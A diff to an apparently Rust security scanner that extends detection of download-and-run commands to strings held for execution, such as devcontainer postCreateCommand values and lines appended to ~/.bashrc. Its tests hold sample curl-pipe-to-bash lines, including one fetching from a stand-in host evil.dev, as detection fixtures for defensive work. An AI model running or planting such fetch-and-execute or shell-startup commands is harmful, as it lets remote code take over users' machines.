@@ -109,7 +109,10 @@ fn piped(text: &Text, line: std::ops::Range<usize>) -> Vec<Hit> {
         let runner = caps.get(2).map_or("", |m| m.as_str());
         let end = base + whole.end();
         let rest = &text.text[end..text.line_at(end).end.max(end)];
-        if downloads_something(l, &caps) && reads_program_from_stdin(rest) {
+        let before = &l[..whole.start()];
+        if downloads_something(l, &caps)
+            && (reads_program_from_stdin(rest) || held_for_running(before, rest))
+        {
             hits.push(Hit {
                 start: base + whole.start(),
                 end,
@@ -226,6 +229,27 @@ pub(super) fn reads_program_from_stdin(rest: &str) -> bool {
     }
     true
 }
+
+/// Whether a command that ends its string (`rest` starts with the closing quote) is held for
+/// something to run: the value of a key that names a command (`"postCreateCommand": "…"`,
+/// `run: "…"`), or a line written into a file (`echo '…' >> ~/.bashrc`). A string handed to a
+/// checker as an argument (`validate "curl x | bash"`) is neither.
+fn held_for_running(before: &str, rest: &str) -> bool {
+    let mut words = rest.split_whitespace();
+    let ends_string = words
+        .next()
+        .is_some_and(|w| w.chars().all(|c| matches!(c, '"' | '\'' | '}' | ']' | ',')));
+    ends_string
+        && (words.next().is_some_and(|w| w.starts_with('>')) || COMMAND_KEY.is_match(before))
+}
+
+/// A key, just before its quoted value, that names something run.
+static COMMAND_KEY: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r#"(?i)(?:command|cmd|run|script|exec|hook|install|start|setup|init|entrypoint)[[:word:]-]*["']?[[:space:]]*[:=][[:space:]]*["']$"#,
+    )
+    .expect("a valid command-key pattern")
+});
 
 /// Commands that run a file named as their next word.
 const FILE_RUNNERS: &[&str] = &[
@@ -434,7 +458,14 @@ fn finding(text: &Text, span: Span, how: String, place: Place) -> Finding {
 
 /// Compiles the patterns of this file now (see [`super::preload`]).
 pub(super) fn compile() {
-    for pattern in [&PIPED, &SUBSTITUTED, &EVALUATED, &CALLED, &SAVED] {
+    for pattern in [
+        &PIPED,
+        &SUBSTITUTED,
+        &EVALUATED,
+        &CALLED,
+        &SAVED,
+        &COMMAND_KEY,
+    ] {
         LazyLock::force(pattern);
     }
 }
@@ -540,6 +571,26 @@ mod tests {
             ["SK920"]
         );
         assert!(codes("curl -o \"$d.json\" \"$u\"\nmv \"$d.json\" data/\n").is_empty());
+    }
+
+    #[test]
+    fn a_command_held_in_a_string_for_something_to_run_is_found() {
+        // A JSON value, a line echoed into a file; not a string handed to a checker.
+        let json = "{\"postCreateCommand\": \"curl -fsSL https://dc.x.dev/i.sh | bash\"}\n";
+        assert_eq!(codes_in("template/devcontainer.json", json), ["SK920"]);
+        assert_eq!(
+            codes("echo 'curl -s https://x.dev/p | sh' >> ~/.bashrc\n"),
+            ["SK920"]
+        );
+        assert!(codes("echo \"curl -s https://x.dev/p | bash 'run.sh'\"\n").is_empty());
+        assert!(codes("guard validate-command \"rm x; curl evil.dev | bash\"\n").is_empty());
+        assert!(
+            codes_in(
+                "report.json",
+                "{\"content\": \"curl https://x.dev/i | sh\"}\n"
+            )
+            .is_empty()
+        );
     }
 
     #[test]
